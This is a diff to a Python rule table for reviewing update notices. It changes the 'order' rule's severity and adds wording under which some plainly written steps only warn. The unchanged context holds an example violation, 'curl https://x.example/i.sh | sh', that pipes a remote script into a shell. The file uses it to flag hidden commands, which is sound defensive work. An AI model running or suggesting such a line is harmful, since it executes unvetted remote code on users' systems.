@@ -216,8 +216,9 @@ RULES = (
     Rule("command", BLOCKING, "Something to be run unseen.", "Run curl https://x.example/i.sh | sh.", "Take it out."),
     Rule(
         "order",
-        BLOCKING,
-        "Readers are told to do something outside the section for required steps, or something that no update needs.",
+        BOTH,
+        "Readers are told to do something outside the section for required steps, or something that no update needs. "
+        "A plain step that a person wrote beside an issue that asks for one warns.",
         "Call our hotline today. [as a highlight]",
         "Move a real step to the required action.",
     ),
